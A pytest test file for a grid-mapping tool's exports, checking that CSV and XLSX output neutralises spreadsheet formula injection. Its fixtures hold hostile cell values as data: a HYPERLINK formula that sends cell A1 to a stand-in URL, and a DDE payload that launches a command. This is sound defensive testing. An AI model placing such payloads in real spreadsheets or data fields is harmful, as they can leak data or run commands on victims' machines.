"""Item 6: CSV and XLSX outputs never carry a formula from the data. Text cells starting with = + - @, tab or CR
get a leading ' in CSV and are string cells in XLSX; numbers stay numbers."""

from __future__ import annotations

import csv

import openpyxl
import pytest

from builders import small_grids
from builders import run_cli

from gridmap.core.outputs import neutralise

HOSTILE = ["=HYPERLINK(\"http://x/\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
SPACED = ["\t=1+1", "\r=1+1"]  # standard columns are stripped at import: these go in an extra column


@pytest.fixture
def hostile_project(tmp_path):
    """A project whose grid names (and a source column) start like formulas, with a numeric column holding -3,
    and two incidents whose ids start like formulas."""
    frame = small_grids()
    for i, text in enumerate(HOSTILE):
        frame.loc[i, "网格名称"] = text
    frame["备注"] = [SPACED[0], "-5"] + ["ok"] * (len(frame) - 3) + [SPACED[1]]
    frame["分值"] = [-3] + [1] * (len(frame) - 1)
    source = tmp_path / "grids.geojson"
    frame.to_file(source, driver="GeoJSON")
    project = tmp_path / "p.gpkg"
    assert run_cli_ok("new", project, "--grids", source)
    incidents = tmp_path / "incidents.csv"
    incidents.write_text("事件编号,经度,纬度\n=1+2,121.31,28.61\n@x,121.33,28.61\n", encoding="utf-8")
    assert run_cli_ok("add", project, "--kind", "incidents", incidents)
    return project


def run_cli_ok(*args) -> bool:
    from gridmap.cli import main

    return main([str(a) for a in args]) == 0


def _csv_rows(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_neutralise_rule():
    assert [neutralise(v) for v in HOSTILE + SPACED] == ["'" + v for v in HOSTILE + SPACED]
    assert [neutralise(v) for v in ("-3", "+86 138", "1e5", "-0.5", "网格", "", -3, 2.5)] == \
        ["-3", "'+86 138", "1e5", "-0.5", "网格", "", -3, 2.5]


def test_export_csv_cells_are_text(capsys, hostile_project, tmp_path):
    out = tmp_path / "grids.csv"
    code, _, err = run_cli(capsys, "export", hostile_project, "--layer", "grids", "--out", out)
    assert code == 0, err
    rows = _csv_rows(out)
    assert [r["name"] for r in rows[:len(HOSTILE)]] == ["'" + v for v in HOSTILE]
    assert [r["备注"] for r in rows[:2]] == ["'\t=1+1", "-5"]
    assert "'\r=1+1" in out.read_bytes().decode("utf-8-sig")
    assert rows[0]["分值"] == "-3"


def test_stats_csv_cells_are_text(capsys, hostile_project, tmp_path):
    out = tmp_path / "stats.csv"
    code, _, err = run_cli(capsys, "stats", hostile_project, "--by", "grid", "--out", out)
    assert code == 0, err
    names = {r["name"] for r in _csv_rows(out)}
    assert {"'" + v for v in HOSTILE} <= names
    code, text, _ = run_cli(capsys, "stats", hostile_project, "--by", "grid")
    assert code == 0 and "\n=" not in text and ",=" not in text and ",@" not in text and ",+" not in text


def test_stats_xlsx_strings_never_formulas(capsys, hostile_project, tmp_path):
    out = tmp_path / "stats.xlsx"
    code, _, err = run_cli(capsys, "stats", hostile_project, "--by", "grid", "--out", out)
    assert code == 0, err
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row[header.index("name"):][:1]}
    for text in HOSTILE:
        assert cells[text].data_type == "s", text  # kept as written, as a string cell
    totals = [row[header.index("total")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and isinstance(c.value, int) for c in totals)
    assert "<f>" not in _sheet_xml(out)


def _sheet_xml(path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_assignment_csv_ids_are_text(capsys, hostile_project, tmp_path):
    out = tmp_path / "assignment.csv"
    code, _, err = run_cli(capsys, "plan", hostile_project, "export-assignment", out)
    assert code == 0, err
    assert sorted(r["id"] for r in _csv_rows(out)) == ["'=1+2", "'@x"]


def test_statistics_dock_export(qtbot, hostile_project, tmp_path):
    """The statistics dock's Export… (CSV and XLSX) writes the names as text."""
    from gridmap.core.records.stats import record_stats
    from gridmap.ops import open_project
    from gridmap.ui.panels.stats_dock import StatsPanel

    dock = StatsPanel()
    qtbot.addWidget(dock)
    dock.frame = record_stats(open_project(hostile_project), "incidents", "grid")
    csv_out = dock.export(tmp_path / "dock.csv")
    assert {"'" + v for v in HOSTILE} <= {r["Name"] for r in _csv_rows(csv_out)}
    xlsx_out = dock.export(tmp_path / "dock.xlsx")
    assert "<f>" not in _sheet_xml(xlsx_out)
